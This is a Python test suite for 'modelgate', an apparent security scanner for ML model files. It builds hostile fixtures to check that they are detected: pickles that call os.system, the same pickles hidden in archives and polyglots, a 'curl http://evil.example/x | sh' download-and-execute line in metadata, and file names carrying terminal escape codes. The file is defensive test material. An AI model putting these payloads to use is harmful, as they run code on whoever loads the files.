#!/usr/bin/env python3
"""CLI contract tests for `modelgate scan` and `modelgate inspect`.

usage: cli_test.py PATH/TO/modelgate

Each test drives the real program in a fresh temp directory and checks exit
codes (0 pass / 1 reject / 2 cannot judge), JSON fields of the
modelgate.report/v1 document, and the text report's lines. Prints
"N passed, M failed" and exits non-zero on any failure.
"""
import fcntl
import hashlib
import json
import os
import pty
import struct
import subprocess
import sys
import termios

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from mgtest import eq, main, run_text, st_bytes, test, write  # noqa: E402

MG = os.path.abspath(sys.argv[1])

GOOD = st_bytes(
    {"__metadata__": {"format": "pt"},
     "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
     "b": {"dtype": "F16", "shape": [2], "data_offsets": [16, 20]}},
    bytes(20))
OVERLAP = st_bytes(
    {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
     "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}},
    bytes(12))
# Valid JSON header but starts with a space: a high (not critical) finding.
BAD_START = b"\x10\x00\x00\x00\x00\x00\x00\x00" + b' {"a":{}}       '
PICKLE = b"\x80\x04\x95\x0e\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x06system\x93."  # imports os.system


def run(*args, env=None, timeout=30):
    return run_text([MG, *args], env=env, timeout=timeout)


def scan_json(*args):
    code, out, err = run("scan", "-f", "json", *args)
    return code, json.loads(out), err


@test
def version(d):
    code, out, _ = run("--version")
    eq(code, 0, "exit")
    eq(out.splitlines()[0], "modelgate 0.1.0", "version line")


@test
def usage_errors_exit_2(d):
    # Issue 10: one line naming what is wrong and where usage is, never the
    # whole usage text.
    for args in ([], ["frobnicate"], ["scan"], ["scan", "--bogus", d], ["scan", "-f", "xml", d],
                 ["scan", "--fail-on", "severe", d], ["scan", "-o"], ["inspect"],
                 ["inspect", d + "/a", d + "/b"]):
        code, out, err = run(*args)
        eq(code, 2, f"exit for {args}")
        eq(out, "", f"stdout for {args}")
        eq(len(err.splitlines()), 1, f"one line for {args}: {err!r}")
        if not err.startswith("modelgate: ") or "--help' for usage" not in err:
            raise AssertionError(f"no pointer to the usage for {args}: {err!r}")


@test
def valid_file_passes_with_contract_fields(d):
    p = write(d, "m.safetensors", GOOD)
    code, doc, _ = scan_json(p)
    eq(code, 0, "exit")
    eq(doc["schema"], "modelgate.report/v1", "schema")
    eq(doc["tool"], {"name": "modelgate", "version": "0.1.0"}, "tool")
    f = doc["files"][0]
    eq(f["path"], p, "path")
    eq(f["format"], "safetensors", "format")
    eq(f["size"], len(GOOD), "size")
    eq(f["verdict"], "pass", "verdict")
    eq(f["findings"], [], "findings")
    eq(f["signature"]["status"], "not-checked", "signature")
    eq(doc["summary"], {"files": 1, "passed": 1, "rejected": 0, "errors": 0}, "summary")


@test
def hostile_file_rejected_with_id_offset(d):
    p = write(d, "o.safetensors", OVERLAP)
    code, doc, _ = scan_json(p)
    eq(code, 1, "exit")
    f = doc["files"][0]
    eq(f["verdict"], "reject", "verdict")
    eq(len(f["findings"]), 1, "one finding")
    fd = f["findings"][0]
    eq(fd["id"], "MG-ST-OVERLAP", "id")
    eq(fd["severity"], "critical", "severity")
    n = struct.unpack("<Q", OVERLAP[:8])[0]
    eq(fd["offset"], 8 + n + 4, "offset of b's first byte")
    if '"b"' not in fd["message"] or '"a"' not in fd["message"]:
        raise AssertionError("message names both tensors: " + fd["message"])
    eq(doc["summary"]["rejected"], 1, "rejected count")


@test
def text_report_table(d):
    good = write(d, "good.safetensors", GOOD)
    bad = write(d, "bad.safetensors", OVERLAP)
    code, out, err = run("scan", good, bad)
    eq(code, 1, "exit")
    lines = out.splitlines()
    n = struct.unpack("<Q", OVERLAP[:8])[0]
    eq(lines[0].split(), ["VERDICT", "FORMAT", "SIZE", "TENSORS", "FINDINGS", "PATH"],
       "header (no SIGNATURE column when nothing was verified)")
    eq(lines[1].split(), ["PASS", "safetensors", str(len(GOOD)), "B", "2", "-", good], "pass row")
    eq(lines[2].split(), ["REJECT", "safetensors", str(len(OVERLAP)), "B", "-", "1", "critical", bad],
       "reject row")
    # Columns line up: every row's path starts where the header's PATH does.
    col = lines[0].index("PATH")
    eq([lines[1].index(good), lines[2].index(bad)], [col, col], "aligned PATH column")
    eq(lines[3].strip(), f'{bad}:{8 + n + 4}: MG-ST-OVERLAP (critical): tensor "b" [4,12) overlaps "a" [0,8)',
       "finding line under its row")
    eq(lines[-2], "", "blank line before the summary")
    eq(lines[-1], "2 files: 1 passed, 1 rejected, 0 errors", "summary line")
    if "\033[" in out or "\033[" in err:
        raise AssertionError("control codes in piped output")
    code, out, err = run("scan", os.path.join(d, "empty-dir-that-is-missing"))
    eq(code, 2, "missing path")
    os.mkdir(os.path.join(d, "empty"))
    code, out, err = run("scan", os.path.join(d, "empty"))
    eq((code, out), (0, "0 files: 0 passed, 0 rejected, 0 errors\n"), "no files: no table")


@test
def unreadable_path_is_error_and_2_wins(d):
    missing = os.path.join(d, "nope.safetensors")
    bad = write(d, "bad.safetensors", OVERLAP)
    code, doc, _ = scan_json(missing, bad)
    eq(code, 2, "exit: 2 wins over 1")
    eq(doc["files"][0]["verdict"], "error", "missing verdict")
    eq(doc["files"][0]["findings"][0]["id"], "MG-IO-OPEN", "missing id")
    eq(doc["summary"], {"files": 2, "passed": 0, "rejected": 1, "errors": 1}, "summary")


@test
def format_from_content_not_extension(d):
    pk = write(d, "model.safetensors", PICKLE)  # pickle wearing a safetensors name
    st = write(d, "weights.bin", GOOD)          # safetensors wearing a .bin name
    txt = write(d, "README.md", b"hello\n")
    code, doc, _ = scan_json(pk, st, txt)
    eq(code, 1, "exit")
    by = {os.path.basename(f["path"]): f for f in doc["files"]}
    eq(by["model.safetensors"]["format"], "pickle", "pickle format")
    eq(by["model.safetensors"]["verdict"], "reject", "pickle rejected until analyzed")
    eq(by["weights.bin"]["format"], "safetensors", "safetensors by content")
    eq(by["weights.bin"]["verdict"], "pass", "safetensors passes")
    eq(by["README.md"]["format"], "unknown", "unknown format")
    eq(by["README.md"]["verdict"], "pass", "unknown passes")


@test
def directory_walk_sorted_recursive(d):
    write(d, "m/b.safetensors", GOOD)
    write(d, "m/a.safetensors", GOOD)
    write(d, "m/sub/c.safetensors", OVERLAP)
    code, doc, _ = scan_json(os.path.join(d, "m"))
    eq(code, 1, "exit")
    eq([os.path.relpath(f["path"], d) for f in doc["files"]],
       ["m/a.safetensors", "m/b.safetensors", "m/sub/c.safetensors"], "walk order")


@test
def symlinks_in_walk(d):
    outside = write(d, "outside.safetensors", GOOD)
    write(d, "m/real.safetensors", GOOD)
    os.symlink(outside, os.path.join(d, "m", "escape.safetensors"))
    os.symlink("real.safetensors", os.path.join(d, "m", "inside.safetensors"))
    os.symlink("missing", os.path.join(d, "m", "dangling"))
    code, doc, _ = scan_json(os.path.join(d, "m"))
    eq(code, 1, "exit")
    by = {os.path.basename(f["path"]): f for f in doc["files"]}
    eq(by["escape.safetensors"]["findings"][0]["id"], "MG-FS-SYMLINK-ESCAPE", "escape id")
    eq(by["escape.safetensors"]["verdict"], "reject", "escape rejected")
    eq(by["dangling"]["findings"][0]["id"], "MG-FS-SYMLINK-ESCAPE", "dangling id")
    eq(by["inside.safetensors"]["verdict"], "pass", "inside link passes")
    eq(by["inside.safetensors"]["findings"][0]["id"], "MG-FS-SYMLINK", "inside id")
    eq(by["real.safetensors"]["verdict"], "pass", "real file scanned")


@test
def fifo_does_not_hang(d):
    os.makedirs(os.path.join(d, "m"))
    fifo = os.path.join(d, "m", "pipe.safetensors")
    os.mkfifo(fifo)
    code, doc, _ = scan_json(os.path.join(d, "m"))
    eq(code, 1, "exit (walked special file rejected)")
    eq(doc["files"][0]["findings"][0]["id"], "MG-FS-SPECIAL-FILE", "special id")
    code, doc, _ = scan_json(fifo)  # named directly: cannot judge
    eq(code, 2, "exit for a FIFO named on the command line")
    eq(doc["files"][0]["findings"][0]["id"], "MG-IO-NOT-REGULAR", "not regular id")


@test
def fail_on_moves_the_bar(d):
    # medium: a plain pickle of a dict (MG-PK-PICKLE-FORMAT, nothing else)
    g = write(d, "x.pkl", b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s.")
    code, doc, _ = scan_json(g)
    eq(code, 0, "medium passes by default")
    eq(doc["files"][0]["findings"][0]["severity"], "medium", "severity")
    code, doc, _ = scan_json("--fail-on", "medium", g)
    eq(code, 1, "medium rejected with --fail-on medium")
    code, doc, _ = scan_json("--fail-on", "critical", g)
    eq(code, 0, "passes with --fail-on critical")


@test
def unparseable_rejected_whatever_the_bar(d):
    p = write(d, "s.safetensors", BAD_START)
    code, doc, _ = scan_json("--fail-on", "critical", p)
    eq(doc["files"][0]["findings"][0]["id"], "MG-ST-HEADER-START", "id")
    eq(doc["files"][0]["findings"][0]["severity"], "high", "severity")
    eq(code, 1, "an unparseable file is rejected even with --fail-on critical")


@test
def output_file(d):
    p = write(d, "m.safetensors", GOOD)
    out_path = os.path.join(d, "report.json")
    code, out, err = run("scan", "-f", "json", "-o", out_path, p)
    eq(code, 0, "exit")
    eq(out, "", "stdout empty with -o")
    eq(err, f"modelgate: 1 file: 1 passed, 0 rejected, 0 errors; report in {out_path}\n",
       "the summary is logged on stderr")
    code, out, err = run("scan", "-q", "-f", "json", "-o", out_path, p)
    eq((code, out, err), (0, "", ""), "-q: no log")
    with open(out_path) as f:
        eq(json.load(f)["summary"]["passed"], 1, "report in file")
    code, out, err = run("scan", "-o", os.path.join(d, "no", "such", "dir", "r.txt"), p)
    eq(code, 2, "unwritable -o is exit 2")


@test
def hostile_names_escaped_in_text(d):
    p = write(d, "evil\nPASS  fake.safetensors", OVERLAP)
    code, out, _ = run("scan", p)
    eq(code, 1, "exit")
    if any(line.startswith("PASS") for line in out.splitlines()):
        raise AssertionError("a file name forged a PASS line:\n" + out)
    name_hdr = {"x\u202e\n": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
                "y": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    q = write(d, "n.safetensors", st_bytes(name_hdr, bytes(4)))
    code, out, _ = run("scan", q)
    eq(code, 1, "exit")
    eq(len(out.splitlines()), 5, "header, row, finding, blank, summary: no injected lines")


@test
def inspect_json_lists_tensors(d):
    p = write(d, "m.safetensors", GOOD)
    code, out, _ = run("inspect", "-f", "json", p)
    eq(code, 0, "exit")
    doc = json.loads(out)
    eq(doc["format"], "safetensors", "format")
    eq(doc["tensor_count"], 2, "tensor count")
    eq(doc["parameters"], 6, "parameters")
    eq(doc["metadata"], {"format": "pt"}, "metadata")
    eq(doc["dtypes"]["F32"], {"tensors": 1, "parameters": 4, "bytes": 16}, "F32 stats")
    eq([t["name"] for t in doc["tensors"]], ["w", "b"], "offset order")
    eq(doc["tensors"][0]["shape"], [2, 2], "shape")
    eq(doc["tensors"][1]["data_offsets"], [16, 20], "offsets")
    n = struct.unpack("<Q", GOOD[:8])[0]
    eq(doc["tensors"][1]["offset"], 8 + n + 16, "absolute offset")


@test
def inspect_text_and_exit_codes(d):
    p = write(d, "m.safetensors", GOOD)
    code, out, _ = run("inspect", p)
    eq(code, 0, "exit")
    for want in ("format:      safetensors", "parameters:  6", '"format": "pt"', '"w"  F32  [2,2]  [0,16)  16'):
        if want not in out:
            raise AssertionError(f"missing {want!r} in:\n{out}")
    code, out, _ = run("inspect", write(d, "o.safetensors", OVERLAP))
    eq(code, 1, "hostile file: exit 1")
    if "MG-ST-OVERLAP" not in out:
        raise AssertionError("inspect names the finding")
    code, _, _ = run("inspect", os.path.join(d, "missing"))
    eq(code, 2, "missing file: exit 2")



REAL = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures", "real")
OS_SYSTEM = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."  # os.system("id")


def zip_bytes(members, compression=None):
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression or zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def npy_bytes(descr, shape, body):
    d = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    head = d.encode() + b" " * ((64 - (10 + len(d) + 1) % 64) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + body


def ids(f):
    return [x["id"] for x in f["findings"]]


@test
def real_benign_weights_pass_with_one_medium(d):
    names = ["torch-state-dict.pt", "torch-mixed.pt", "torch-legacy.pt", "numpy-object.npy"]
    code, doc, _ = scan_json(*[os.path.join(REAL, n) for n in names])
    for f in doc["files"]:
        eq(f["verdict"], "pass", f["path"])
        eq([x["severity"] for x in f["findings"] if x["severity"] in ("critical", "high")], [],
           f["path"] + " blocking findings")
        eq(ids(f).count("MG-PK-PICKLE-FORMAT"), 1, f["path"] + " pickle-format finding")
    eq(code, 0, "exit")
    code, doc, _ = scan_json(*[os.path.join(REAL, n) for n in ["numpy-f32.npy", "numpy-arrays.npz",
                                                               "numpy-compressed.npz"]])
    eq(code, 0, "plain numpy passes")
    eq([ids(f) for f in doc["files"]], [[], [], []], "plain arrays carry no findings")


@test
def malicious_pickle_in_torch_zip_names_member_and_global(d):
    p = write(d, "model.pt", zip_bytes([("model/data.pkl", OS_SYSTEM), ("model/version", b"3\n")]))
    code, doc, _ = scan_json(p)
    eq(code, 1, "exit")
    f = doc["files"][0]
    eq(f["format"], "pytorch-zip", "format")
    crit = [x for x in f["findings"] if x["id"] == "MG-PK-CRITICAL-IMPORT"]
    eq(len(crit), 1, "one critical import")
    eq(crit[0]["member"], "model/data.pkl", "member")
    eq(crit[0]["global"], "os.system", "global")
    eq(crit[0]["opcode"], "GLOBAL", "opcode")
    eq(crit[0]["member_offset"], 2, "offset inside the member")


@test
def protocol0_and_compressed_pickles(d):
    p0 = write(d, "a.pkl", b"cos\nsystem\n(S'id'\ntR.")
    import gzip
    gz = write(d, "b.pkl.gz", gzip.compress(OS_SYSTEM))
    code, doc, _ = scan_json(p0, gz)
    eq(code, 1, "exit")
    for f in doc["files"]:
        if "MG-PK-CRITICAL-IMPORT" not in ids(f):
            raise AssertionError(f"{f['path']}: {ids(f)}")


@test
def object_arrays_are_analyzed(d):
    evil = write(d, "e.npy", npy_bytes("|O", (1,), OS_SYSTEM))
    npz = write(d, "e.npz", zip_bytes([("x.npy", npy_bytes("|O", (1,), OS_SYSTEM))]))
    code, doc, _ = scan_json(evil, npz)
    eq(code, 1, "exit")
    eq("MG-PK-CRITICAL-IMPORT" in ids(doc["files"][0]), True, "npy object array")
    f = doc["files"][1]
    eq(f["format"], "numpy-zip", "npz format")
    crit = [x for x in f["findings"] if x["id"] == "MG-PK-CRITICAL-IMPORT"]
    eq(crit[0]["member"], "x.npy", "npz member")
    trailing = write(d, "t.npy", npy_bytes("<f4", (2,), bytes(8) + b"PK\x03\x04hidden"))
    code, doc, _ = scan_json(trailing)
    eq(code, 1, "trailing bytes after an array body are rejected")
    eq(ids(doc["files"][0]), ["MG-NPY-TRAILING-DATA"], "trailing id")


@test
def polyglots(d):
    # A pickle at offset 0 with a zip after it: torch.load unpickles the leading stream.
    pz = write(d, "p.pt", OS_SYSTEM + zip_bytes([("m/data.pkl", b"\x80\x02}q\x00.")]))
    code, doc, _ = scan_json(pz)
    eq(code, 1, "exit")
    f = doc["files"][0]
    eq(f["format"], "pickle", "leading format")
    for want in ("MG-PK-CRITICAL-IMPORT", "MG-POLY-ZIP"):
        if want not in ids(f):
            raise AssertionError(f"missing {want}: {ids(f)}")
    # A valid safetensors file whose last tensor's bytes are a zip archive.
    z = zip_bytes([("a.pkl", OS_SYSTEM)])
    st = write(d, "s.safetensors", st_bytes({"t": {"dtype": "U8", "shape": [len(z)], "data_offsets": [0, len(z)]}}, z))
    code, doc, _ = scan_json(st)
    eq(code, 1, "exit")
    eq(ids(doc["files"][0]), ["MG-POLY-ZIP"], "safetensors that is also a zip")
    # Unrecognized bytes in front of a zip: a zip reader still opens it.
    sfx = write(d, "x.bin", b"#!/bin/sh\nexit 0\n" + zip_bytes([("a.pkl", OS_SYSTEM)]))
    code, doc, _ = scan_json(sfx)
    eq(code, 1, "exit")
    f = doc["files"][0]
    eq(f["format"], "zip", "found by its end record")
    for want in ("MG-ZIP-PREPENDED-DATA", "MG-PK-CRITICAL-IMPORT"):
        if want not in ids(f):
            raise AssertionError(f"missing {want}: {ids(f)}")


@test
def lying_extension_is_a_finding(d):
    p = write(d, "weights.safetensors", b"\x80\x02}q\x00.")  # benign pickle, lying name
    code, doc, _ = scan_json(p)
    eq(code, 1, "exit")
    f = doc["files"][0]
    eq(f["format"], "pickle", "format")
    mism = [x for x in f["findings"] if x["id"] == "MG-FMT-EXTENSION-MISMATCH"]
    eq(len(mism), 1, "mismatch finding")
    eq(mism[0]["severity"], "high", "a code-carrying format under a safe name is high")


@test
def inspect_lists_imports_with_safety(d):
    code, out, _ = run("inspect", "-f", "json", os.path.join(REAL, "torch-state-dict.pt"))
    eq(code, 0, "exit")
    doc = json.loads(out)
    got = {i["global"]: i["safety"] for i in doc["imports"]}
    eq(got.get("torch._utils._rebuild_tensor_v2"), "safe", "rebuild is safe")
    eq(got.get("collections.OrderedDict"), "safe", "OrderedDict is safe")
    p = write(d, "m.pt", zip_bytes([("m/data.pkl", OS_SYSTEM)]))
    code, out, _ = run("inspect", "-f", "json", p)
    eq(code, 1, "exit")
    imp = json.loads(out)["imports"][0]
    eq((imp["global"], imp["safety"], imp["member"]), ("os.system", "critical", "m/data.pkl"), "import")


@test
def wrappers_archives_and_magicless_pickles(d):
    import bz2
    import io
    import lzma
    import tarfile
    files = {
        "a.pkl.bz2": bz2.compress(OS_SYSTEM),
        "a.pkl.xz": lzma.compress(OS_SYSTEM),
        "p0.bin": b"(lp0\nI1\naI2\na" + b"cposix\nsystem\n(S'id'\ntR.",  # protocol 0, no magic
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in (("storages", b"\x80\x02K\x00."), ("tensors", b"\x80\x02K\x00."),
                           ("pickle", OS_SYSTEM)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    files["legacy.pt"] = buf.getvalue()
    paths = [write(d, n, b) for n, b in files.items()]
    code, doc, _ = scan_json(*paths)
    eq(code, 1, "exit")
    by = {os.path.basename(f["path"]): f for f in doc["files"]}
    eq(by["a.pkl.bz2"]["format"], "bzip2", "bzip2")
    eq(by["a.pkl.xz"]["format"], "xz", "xz")
    eq(by["p0.bin"]["format"], "pickle", "protocol 0 found without magic")
    eq(by["legacy.pt"]["format"], "pytorch-tar", "legacy torch tar")
    for name, f in by.items():
        crit = [x for x in f["findings"] if x["id"] == "MG-PK-CRITICAL-IMPORT"]
        if not crit:
            raise AssertionError(f"{name}: {ids(f)}")
    eq([x["member"] for x in by["legacy.pt"]["findings"] if x["id"] == "MG-PK-CRITICAL-IMPORT"],
       ["pickle"], "tar member named")
    code, doc, _ = scan_json(os.path.join(os.path.dirname(REAL), "..", "archives", "data", "torch-legacy.tar"))
    eq(code, 0, "a real legacy torch tar passes")
    eq(ids(doc["files"][0]), ["MG-PK-PICKLE-FORMAT"], "one medium finding for all its streams")


@test
def yara_rules_default_custom_and_errors(d):
    meta = st_bytes({"__metadata__": {"note": "curl http://evil.example/x | sh"},
                     "w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, b"\x00")
    p = write(d, "m.safetensors", meta)
    code, doc, _ = scan_json(p)
    eq(code, 1, "shipped rules reject a download-and-execute in metadata")
    y = [x for x in doc["files"][0]["findings"] if x["id"].startswith("MG-YARA-")]
    eq(y[0]["id"], "MG-YARA-SHELL-DOWNLOAD-AND-EXECUTE", "rule id")
    eq(y[0]["severity"], "critical", "severity from meta")
    code, doc, _ = scan_json("--no-yara", p)
    eq(code, 0, "--no-yara runs no rules")
    rules = os.path.join(d, "rules")
    os.makedirs(rules)
    with open(os.path.join(rules, "house.yar"), "w") as f:
        f.write('rule house_marker { meta: description = "house rule" severity = "medium" '
                'strings: $a = "HOUSE-MARKER" condition: $a }\n')
    q = write(d, "n.safetensors", st_bytes({"__metadata__": {"k": "HOUSE-MARKER"}}, b""))
    code, doc, _ = scan_json("--yara-rules", rules, "--fail-on", "medium", q)
    eq(code, 1, "custom rule applies")
    eq([x["id"] for x in doc["files"][0]["findings"]], ["MG-YARA-HOUSE-MARKER"], "custom id")
    with open(os.path.join(rules, "broken.yar"), "w") as f:
        f.write("rule broken { condition: nope }\n")
    code, out, err = run("scan", "--yara-rules", rules, q)
    eq(code, 2, "a rule that does not compile: exit 2")
    if "broken.yar:1" not in err:
        raise AssertionError("the error names the file and line: " + err)


@test
def check_gate_with_a_policy(d):
    code, out, err = run("keygen", "--out", os.path.join(d, "rel"))
    eq(code, 0, "keygen")
    with open(os.path.join(d, "rel.pub")) as f:
        pem = f.read()
    pol = os.path.join(d, "policy.yaml")
    with open(pol, "w") as f:
        f.write("apiVersion: modelgate/v1\nkind: Policy\nfailOn: high\n"
                "formats: {allow: [safetensors]}\n"
                "signatures:\n  required: true\n  threshold: 1\n  keys:\n"
                "    - name: release\n      publicKey: |\n" +
                "".join("        " + line + "\n" for line in pem.strip().splitlines()))
    code, out, err = run("policy", "lint", pol)
    eq(code, 0, "lint passes: " + out + err)
    unsigned = write(d, "m/unsigned.safetensors", GOOD)
    signed = os.path.join(d, "m", "signed.safetensors")
    code, _, err = run("sign", "--key", os.path.join(d, "rel.key"), "-o", signed, unsigned)
    eq(code, 0, "sign: " + err)
    pk = write(d, "m/w.pkl", b"\x80\x02}q\x00.")
    code, doc, _ = scan_json("--policy", pol, signed)
    eq(code, 0, "signed file passes (scan --policy)")
    for extra in (["--fail-on", "low"], ["--no-yara"], ["--yara-scope", "all"]):
        code, out, err = run("scan", "--policy", pol, *extra, signed)
        eq(code, 2, f"scan --policy with {extra}: the policy sets it")
        if "policy" not in err or out:
            raise AssertionError("says why, and no report: " + out + err)
    code, out, _ = run("check", "--policy", pol, "-f", "json", signed, unsigned, pk)
    eq(code, 1, "exit")
    by = {os.path.basename(f["path"]): f for f in json.loads(out)["files"]}
    eq(by["signed.safetensors"]["verdict"], "pass", "signed passes")
    eq(by["signed.safetensors"]["signature"]["status"], "valid", "signature valid")
    eq(by["unsigned.safetensors"]["verdict"], "reject", "unsigned rejected")
    eq(by["unsigned.safetensors"]["signature"]["status"], "missing", "missing")
    eq(by["w.pkl"]["verdict"], "reject", "pickle rejected")
    eq("MG-POLICY-FORMAT" in ids(by["w.pkl"]), True, "format not allowed")
    bad = os.path.join(d, "bad.yaml")
    with open(bad, "w") as f:
        f.write("apiVersion: modelgate/v1\nkind: Policy\nfailOn: high\nfailOn: low\n")
    code, out, err = run("check", "--policy", bad, signed)
    eq(code, 2, "a broken policy: exit 2")
    if "bad.yaml:4:" not in err:
        raise AssertionError("names the line: " + err)
    code, out, err = run("policy", "lint", bad)
    eq(code, 2, "lint of a broken policy: exit 2")


def run_tty_stderr(*args, env=None, cols=100):
    """Runs modelgate with stderr on a pseudo-terminal (stdout piped)."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, cols, 0, 0))
    p = subprocess.Popen([MG, *args], stdout=subprocess.PIPE, stderr=slave, env=env)
    os.close(slave)
    err = b""
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: every slave end is closed
            break
        if not chunk:
            break
        err += chunk
    out = p.communicate(timeout=60)[0]
    os.close(master)
    return p.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace")


@test
def progress_line_only_on_a_terminal(d):
    # A large file (sparse: nothing is written) gets a progress line at once.
    size = 80 << 20
    big = os.path.join(d, "big.safetensors")
    with open(big, "wb") as f:
        f.write(st_bytes({"w": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}))
        f.truncate(f.tell() + size)
    key = os.path.join(d, "k")
    eq(run("keygen", "--out", key)[0], 0, "keygen")
    signed = os.path.join(d, "signed.safetensors")
    eq(run("sign", "--key", key + ".key", "-o", signed, big)[0], 0, "sign")
    code, out, err = run_tty_stderr("verify", "--pubkey", key + ".pub", signed)
    eq(code, 0, "verify on a terminal: " + out + err)
    frames = [f for f in err.split("\r") if f]
    if not any(f.startswith("1/1 hashing [") and "signed.safetensors" in f for f in frames):
        raise AssertionError("no hashing frame on the terminal: " + repr(err))
    if not err.endswith("\r\033[K"):
        raise AssertionError("the line is not erased at the end: " + repr(err[-40:]))
    if any(len(f.replace("\033[K", "")) > 99 for f in frames):
        raise AssertionError("a frame is wider than the terminal: " + repr(err))
    if "\033" in out or "\r" in out or out.splitlines()[1].split()[0] != "PASS":
        raise AssertionError("the report mixes with progress: " + repr(out))
    # Piped stderr, -q, and TERM=dumb: nothing at all on stderr.
    code, out, err = run("verify", "--pubkey", key + ".pub", signed)
    eq((code, err), (0, ""), "stderr piped: no progress")
    code, out, err = run_tty_stderr("verify", "-q", "--pubkey", key + ".pub", signed)
    eq((code, err), (0, ""), "-q on a terminal: no progress")
    env = dict(os.environ, TERM="dumb")
    code, out, err = run_tty_stderr("verify", "--pubkey", key + ".pub", signed, env=env)
    eq((code, err), (0, ""), "TERM=dumb: no progress")
    # scan shows the phase it is in; check hashes under its policy too.
    code, out, err = run_tty_stderr("scan", big)
    eq(code, 0, "scan")
    if "1/1 scanning" not in err:
        raise AssertionError("no scanning frame: " + repr(err))
    pol = write(d, "p.yaml", b"apiVersion: modelgate/v1\nkind: Policy\nsignatures:\n"
                b"  required: true\n  keys:\n    - name: k\n      file: k.pub\n")
    code, out, err = run_tty_stderr("check", "--policy", pol, signed, big)
    eq(code, 1, "check: the unsigned copy is rejected")
    if "2/2 scanning" not in err or "1/2 hashing" not in err:
        raise AssertionError("check frames: " + repr(err))


@test
def extra_report_files_from_one_pass(d):
    p = write(d, "o.safetensors", OVERLAP)
    j, sf = os.path.join(d, "r.json"), os.path.join(d, "r.sarif")
    code, out, _ = run("scan", "--json-output", j, "--sarif-output", sf, p)
    eq(code, 1, "exit")
    if not out.splitlines()[1].startswith("REJECT"):
        raise AssertionError("text report still on stdout: " + out)
    with open(j) as f:
        eq(json.load(f)["files"][0]["findings"][0]["id"], "MG-ST-OVERLAP", "json file")
    with open(sf) as f:
        eq(json.load(f)["runs"][0]["results"][0]["ruleId"], "MG-ST-OVERLAP", "sarif file")


# ---- Hostile names in reports (issue 9, point 8) ----------------------------
# What the text report and inspect may print of a name: no C0 but newline,
# no DEL, valid UTF-8 only (a lone 0x9B is CSI to an 8-bit terminal), no
# encoded C1, no bidi control or line separator; every such name escaped.
TERMINAL_HAZARDS = set(range(0x80, 0xA0)) | {0x061C, 0x200E, 0x200F, 0x2028, 0x2029} | \
    set(range(0x202A, 0x202F)) | set(range(0x2066, 0x206A))


def run_bytes(*args):
    p = subprocess.run([MG, *args], capture_output=True, timeout=30)
    return p.returncode, p.stdout, p.stderr


def terminal_safe(out, what):
    text = out.decode("utf-8")  # raises on a raw 0x80-0x9F or other invalid byte
    for ch in text:
        c = ord(ch)
        if (c < 0x20 and ch != "\n") or c == 0x7F or c in TERMINAL_HAZARDS:
            raise AssertionError(f"{what}: U+{c:04X} reached the terminal:\n{text}")
    return text


def must_contain(text, wants, what):
    for w in wants:
        if w not in text:
            raise AssertionError(f"{what}: missing {w!r} in:\n{text}")


# A tensor name, metadata key and value with each class (the core rejects C0
# in names, not in metadata values).
HOSTILE_ST = st_bytes(
    {"__metadata__": {"k\u2066\u0085": "v\u009b2J\x1b[31m\u202e\n\x7f"},
     "t\u009b[2J\u202etxt.exe\u200f\u2028": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}},
    bytes(1))


@test
def c1_and_bidi_escaped_in_text_report_and_inspect(d):
    # File name with a raw CSI byte, an encoded CSI and a right-to-left override.
    p = os.path.join(os.fsencode(d), b"evil\x9b[2J\xc2\x9b\xe2\x80\xaetxt.safetensors")
    with open(p, "wb") as f:
        f.write(HOSTILE_ST)
    code, out, err = run_bytes("scan", p)
    eq(code, 0, "scan exit")
    text = terminal_safe(out, "scan")
    must_contain(text, ["\\x9b[2J\\u009b\\u202etxt.safetensors"], "scan path")
    terminal_safe(err, "scan stderr")
    code, out, err = run_bytes("inspect", p)
    eq(code, 0, "inspect exit")
    text = terminal_safe(out, "inspect")
    must_contain(text, ['"t\\u009b[2J\\u202etxt.exe\\u200f\\u2028"',
                        '"k\\u2066\\u0085": "v\\u009b2J\\x1b[31m\\u202e\\x0a\\x7f"',
                        'file:        "' + d + '/evil\\x9b[2J\\u009b\\u202etxt.safetensors"'],
                 "inspect names")
    # The same names in a -f json report stay exact (JSON is not a terminal).
    code, out, _ = run("inspect", "-f", "json", p)
    doc = json.loads(out)
    eq(doc["tensors"][0]["name"], "t\u009b[2J\u202etxt.exe\u200f\u2028", "tensor name in json")
    eq(doc["metadata"], {"k\u2066\u0085": "v\u009b2J\x1b[31m\u202e\n\x7f"}, "metadata in json")


@test
def c1_and_bidi_escaped_in_archive_members_and_pickle_globals(d):
    # A zip member whose name carries an encoded CSI and an RLO, and another
    # whose name is not UTF-8 (a raw 0x9B: the name bytes are patched in).
    z = zip_bytes([("m/\u009b[2J\u202edata.pkl", OS_SYSTEM), ("m/XXXX.pkl", OS_SYSTEM)])
    z = z.replace(b"m/XXXX.pkl", b"m/\x9b\xff\xe2\x80.pkl")
    p = write(d, "m.pt", z)
    code, out, _ = run_bytes("scan", p)
    eq(code, 1, "scan exit")
    text = terminal_safe(out, "scan")
